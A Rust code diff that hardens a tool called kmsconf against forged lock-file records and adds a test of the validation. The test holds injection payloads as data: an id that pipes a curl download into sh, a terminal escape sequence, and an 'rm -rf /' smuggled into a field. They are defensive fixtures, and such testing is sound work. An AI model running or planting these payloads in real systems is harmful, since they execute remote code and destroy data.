@@ -9,8 +9,10 @@ use serde::{Deserialize, Serialize};
 
 use crate::Error;
 
-/// The run that holds a lock.
+/// The run that holds a lock. A record read back is checked to be what kmsconf writes ([`LockRecord`]):
+/// whoever can write the host's lock file must not get text into a suggested command.
 #[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(try_from = "LockRecord")]
 pub struct LockHolder {
     /// Random per run; what `force-unlock` must be given.
     pub id: String,
@@ -19,6 +21,61 @@ pub struct LockHolder {
     /// RFC 3339, UTC.
     pub started: String,
     pub operation: String,
+}
+
+/// A lock record as read, before [`LockHolder`] vouches for it.
+#[derive(Deserialize)]
+#[serde(deny_unknown_fields)]
+struct LockRecord {
+    id: String,
+    pid: u32,
+    machine: String,
+    started: String,
+    operation: String,
+}
+
+/// Why a lock record is not one kmsconf wrote.
+#[derive(Debug, thiserror::Error)]
+#[error("the lock record's `{field}` is not {expected}")]
+pub struct LockRecordError {
+    field: &'static str,
+    expected: &'static str,
+}
+
+impl TryFrom<LockRecord> for LockHolder {
+    type Error = LockRecordError;
+
+    fn try_from(r: LockRecord) -> Result<Self, LockRecordError> {
+        let bad = |field, expected| Err(LockRecordError { field, expected });
+        let printable = |text: &str, max: usize| {
+            !text.is_empty() && text.len() <= max && !text.chars().any(char::is_control)
+        };
+        if !is_lock_id(&r.id) {
+            return bad("id", "16 hex digits");
+        }
+        if !printable(&r.machine, 255) {
+            return bad("machine", "a machine name");
+        }
+        if parse_rfc3339(&r.started).is_none() {
+            return bad("started", "an RFC 3339 time");
+        }
+        let word = |c: char| c.is_ascii_lowercase() || c == '-';
+        if r.operation.is_empty() || r.operation.len() > 32 || !r.operation.chars().all(word) {
+            return bad("operation", "a kmsconf command");
+        }
+        Ok(Self {
+            id: r.id,
+            pid: r.pid,
+            machine: r.machine,
+            started: r.started,
+            operation: r.operation,
+        })
+    }
+}
+
+/// Whether `id` is a lock ID as [`random_id`] makes them: 16 hex digits.
+pub fn is_lock_id(id: &str) -> bool {
+    id.len() == 16 && id.bytes().all(|b| b.is_ascii_hexdigit())
 }
 
 impl LockHolder {
@@ -104,6 +161,25 @@ mod tests {
         assert_eq!(rfc3339(951_782_400), "2000-02-29T00:00:00Z");
         assert_eq!(rfc3339(1_795_000_000), "2026-11-18T11:06:40Z");
         assert_eq!(rfc3339(-1), "1969-12-31T23:59:59Z");
+    }
+
+    #[test]
+    fn a_lock_record_is_read_only_as_kmsconf_writes_it() {
+        let holder = LockHolder::current("apply").expect("random source");
+        let record = serde_json::to_value(&holder).expect("json");
+        let back: LockHolder = serde_json::from_value(record.clone()).expect("reads back");
+        assert_eq!(back, holder);
+        for (field, value) in [
+            ("id", "8f0c1d2e; curl -s http://x/x | sh #"),
+            ("machine", "kms\u{1b}]0;owned\u{7}"),
+            ("started", "yesterday"),
+            ("operation", "apply`; rm -rf /"),
+        ] {
+            let mut bad = record.clone();
+            bad[field] = serde_json::json!(value);
+            let e = serde_json::from_value::<LockHolder>(bad).expect_err(field);
+            assert!(e.to_string().contains(&format!("`{field}`")), "{e}");
+        }
     }
 
     #[test]
